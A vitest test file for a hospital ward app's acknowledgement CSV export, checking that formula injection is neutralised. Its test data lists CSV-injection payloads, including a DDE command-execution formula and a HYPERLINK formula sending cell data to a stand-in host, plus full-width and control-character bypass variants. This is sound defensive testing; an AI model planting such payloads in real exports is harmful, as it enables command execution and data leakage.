import { describe, expect, it } from 'vitest';
import type { AckRecord } from '../../../shared/domain/types';
import { acknowledgementsCsv, csvCell } from './ack-csv';

// Issue #21: formula injection through the acknowledgement export.

/** Strict RFC 4180 parser; also reports whether every field was quoted. */
function parseCsv(text: string): { rows: string[][]; allQuoted: boolean } {
  const rows: string[][] = [];
  let row: string[] = [];
  let allQuoted = true;
  let i = 0;
  while (i < text.length) {
    let cell = '';
    if (text[i] === '"') {
      i++;
      for (;;) {
        if (i >= text.length) throw new Error('unterminated quoted field');
        if (text[i] === '"') {
          if (text[i + 1] === '"') {
            cell += '"';
            i += 2;
          } else {
            i++;
            break;
          }
        } else cell += text[i++];
      }
    } else {
      allQuoted = false;
      while (i < text.length && text[i] !== ',' && text[i] !== '\r') {
        if (text[i] === '"' || text[i] === '\n') throw new Error(`bare ${JSON.stringify(text[i])} at ${i}`);
        cell += text[i++];
      }
    }
    row.push(cell);
    if (text[i] === ',') i++;
    else if (text.startsWith('\r\n', i)) {
      rows.push(row);
      row = [];
      i += 2;
    } else throw new Error(`expected , or CRLF at ${i}`);
  }
  if (row.length) throw new Error('last record lacks CRLF');
  return { rows, allQuoted };
}

const TRIGGERS = /^[=+\-@\u2212]/;
/** What a spreadsheet would run as a formula: a trigger (or its full-width/compatibility form)
 *  after optional whitespace and quotes, or a leading tab/CR. */
function runsAsFormula(s: string): boolean {
  // OWASP: tab, CR and LF are triggers of their own (here also after other leading blanks)
  if (/^[\s"]*[\t\r\n]/.test(s)) return true;
  const first = /^[\s"]*(.)/u.exec(s)?.[1];
  return first !== undefined && TRIGGERS.test(first.normalize('NFKC'));
}
/** Every cell a spreadsheet could see: the whole cell, and each `;`-separated piece
 *  (where `;` is the list separator, Excel splits on it even inside quotes of a comma file). */
const pieces = (cell: string) => [cell, ...cell.split(';').slice(1)];
// eslint-disable-next-line no-control-regex
const stripControls = (s: string) => s.replace(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f]/g, '');
/** Removes the guard apostrophes (at the start, and after a `;`). */
const unguard = (s: string) => s.replace(/^'/, '').replace(/;'/g, ';');

const HOSTILE = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://x","y")',
  ' =1+1',
  '   @SUM(A1)',
  '\t=1+1',
  '\n=1+1',
  '\r=1+1',
  '\r\n-1',
  '\t',
  '\r',
  '\u00a0=1',
  '\u3000=1',
  '\ufeff=1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '﹦1',
  '⁼1',
  '−1',
  ' ＝1',
  '\u0000=1+1',
  '=\u00001',
  'a\u0000b',
  '\u0001\u001f\u007fx',
  'a;=1+1',
  'a; -2+3',
  'a;"=1"',
  ';@x',
  'a;;=1',
  'x,"=y"',
  '"=1"',
  '""',
  "'already quoted",
  'multi\r\nline\nnote',
  'tab\tinside',
  '',
  'plain',
];

function record(h: string, i: number): AckRecord {
  return {
    ackId: `ack-${i}`,
    alertId: h,
    action: h as AckRecord['action'],
    nurse: h,
    nurseId: null,
    stationId: h,
    note: h,
    ackTime: 1_768_460_400_000 + i * 1000,
    syncState: h as AckRecord['syncState'],
    syncError: h,
    syncedAt: null,
    alert: {
      alertId: h,
      patientId: h,
      deviceId: h,
      alertTime: 1_768_460_000_000 + i * 1000,
      alertType: h as AckRecord['alert']['alertType'],
      alertDetail: h,
      alertLevel: 2,
      status: 'confirmed',
      handleBy: h,
      handleTime: null,
      handleNote: h,
      reading: null,
    },
  };
}
const TEXT_COLUMNS = [
  'action',
  'nurse',
  'station_id',
  'note',
  'sync_state',
  'alert_id',
  'patient_id',
  'device_id',
  'alert_type',
  'alert_detail',
];

describe('acknowledgementsCsv', () => {
  const csv = acknowledgementsCsv(HOSTILE.map(record), 'Europe/Berlin');
  const { rows, allQuoted } = parseCsv(csv);
  const [header, ...body] = rows;

  it('quotes every cell and keeps one record per acknowledgement', () => {
    expect(allQuoted).toBe(true);
    expect(body).toHaveLength(HOSTILE.length);
    for (const r of rows) expect(r).toHaveLength(header!.length);
  });

  it('round-trips every free-text cell, minus the guard and control characters', () => {
    for (const [i, h] of HOSTILE.entries()) {
      for (const col of TEXT_COLUMNS) {
        const cell = body[i]![header!.indexOf(col)]!;
        expect({ input: h, col, cell: unguard(cell) }).toEqual({
          input: h,
          col,
          cell: unguard(stripControls(h)),
        });
        // nothing but the guard is added
        expect(cell.length - stripControls(h).length).toBeLessThanOrEqual(pieces(h).length);
      }
    }
  });

  it('leaves no cell, nor any ;-separated piece of one, that a spreadsheet would run', () => {
    for (const r of body) {
      for (const cell of r) {
        for (const p of pieces(cell)) expect({ cell, runs: runsAsFormula(p) }).toEqual({ cell, runs: false });
        // eslint-disable-next-line no-control-regex
        expect(cell).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f]/);
      }
    }
  });

  it('writes ward times and the typed level as before', () => {
    expect(header).toEqual([
      'ack_time',
      'action',
      'nurse',
      'nurse_id',
      'station_id',
      'note',
      'sync_state',
      'alert_id',
      'patient_id',
      'device_id',
      'alert_time',
      'alert_type',
      'alert_level',
      'alert_detail',
    ]);
    // 2026-01-15 07:00:00 UTC is 08:00 in Berlin
    expect(body[0]![0]).toBe('2026-01-15 08:00:00');
    expect(body[0]![10]).toBe('2026-01-15 07:53:20');
    expect(body[0]![12]).toBe('2');
    // before sign-in (#18) an acknowledgement had a name only
    expect(body[0]![3]).toBe('');
  });

  it('names the nurse by roster identifier too: two members may share a name (#18)', () => {
    const rows = [
      { ...record('a', 0), nurse: 'Li Na', nurseId: 'N1001' },
      { ...record('b', 1), nurse: 'Li Na', nurseId: 'N2001' },
    ];
    const lines = acknowledgementsCsv(rows, 'UTC').trimEnd().split('\r\n').slice(1);
    expect(lines.map((l) => l.split(',').slice(2, 4))).toEqual([
      ['"Li Na"', '"N1001"'],
      ['"Li Na"', '"N2001"'],
    ]);
  });
});

// Issue #18: every prefix the OWASP CSV Injection page lists (owasp.org/www-community/attacks/
// CSV_Injection: = + - @, tab 0x09, CR 0x0D, LF 0x0A), alone and after each leading blank, plus the
// full-width forms Excel folds to ASCII, in every free-text field a nurse or a device can fill.
describe('acknowledgementsCsv: the OWASP prefixes in every free-text field', () => {
  const PREFIXES: [string, string][] = [
    ['=', '='],
    ['+', '+'],
    ['-', '-'],
    ['@', '@'],
    ['tab', '\t'],
    ['CR', '\r'],
    ['LF', '\n'],
    ['full-width =', '\uFF1D'],
    ['full-width +', '\uFF0B'],
    ['full-width -', '\uFF0D'],
    ['full-width @', '\uFF20'],
  ];
  const LEADS: [string, string][] = [
    ['at the start', ''],
    ['after a space', ' '],
    ['after two spaces', '  '],
    ['after a tab', '\t'],
    ['after a CR', '\r'],
    ['after an LF', '\n'],
    ['after CR LF', '\r\n'],
    ['after a quote', '"'],
    ['after a ;', 'ok;'],
    ['after a ; and a space', 'ok; '],
  ];
  const PAYLOAD = 'HYPERLINK("http://x.example/?"&A1,"open")';
  const FIELDS = ['nurse', 'note', 'patient_id', 'alert_detail'] as const;

  const cases = PREFIXES.flatMap(([p, prefix]) =>
    LEADS.map(([l, lead]) => ({ name: `${p} ${l}`, text: lead + prefix + PAYLOAD })),
  );

  function row(text: string): AckRecord {
    const r = record('plain', 0);
    return {
      ...r,
      nurse: text,
      note: text,
      alert: { ...r.alert, patientId: text, alertDetail: text },
    };
  }

  it.each(cases)('guards $name', ({ text }) => {
    const { rows } = parseCsv(acknowledgementsCsv([row(text)], 'UTC'));
    const [header, body] = rows;
    for (const field of FIELDS) {
      const cell = body![header!.indexOf(field)]!;
      // the piece that carries the prefix (after the `;` when there is one) starts with the guard
      const piece = text.includes(';') ? cell.slice(cell.indexOf(';') + 1) : cell;
      expect({ field, guard: piece.slice(0, 1) }).toEqual({ field, guard: "'" });
      for (const p of pieces(cell))
        expect({ field, p, runs: runsAsFormula(p) }).toEqual({ field, p, runs: false });
      // and nothing else is changed
      expect(unguard(cell)).toBe(text);
    }
  });

  it('leaves text that only contains the prefixes later alone', () => {
    for (const text of [
      'P001',
      'HR 130 - rechecked',
      'a+b',
      'mail@ward',
      'x=1',
      'line 1\nline 2',
      '\uFF30\uFF10\uFF10\uFF11',
    ]) {
      expect(csvCell(text)).toBe(`"${text}"`);
    }
  });
});

describe('csvCell', () => {
  it.each([
    ['plain', '"plain"'],
    ['', '""'],
    [null, '""'],
    [undefined, '""'],
    ['say "hi"', '"say ""hi"""'],
    ['=1+1', `"'=1+1"`],
    [' =1+1', `"' =1+1"`],
    ['\t=1', `"'\t=1"`],
    ['\r\n-1', `"'\r\n-1"`],
    ['＝1', `"'＝1"`],
    ['\u0000=1', `"'=1"`],
    ['a;=1', `"a;'=1"`],
    ['a; -2;ok', `"a;' -2;ok"`],
    [';@x', `";'@x"`],
    ['a;;=1', `"a;;'=1"`],
    ['a;"=1"', `"a;'""=1"""`],
    ['\n', `"'\n"`],
    ['\nplain', `"'\nplain"`],
    [' \tplain', `"' \tplain"`],
    ['a;\r\n', `"a;'\r\n"`],
    ['\u2A751', `"'\u2A751"`],
    ['x-1', '"x-1"'],
    // typed numbers the app produces stay numbers: a negative one is not a formula
    [-3, '"-3"'],
    [2, '"2"'],
  ])('%j → %s', (value, expected) => {
    expect(csvCell(value)).toBe(expected);
  });
});
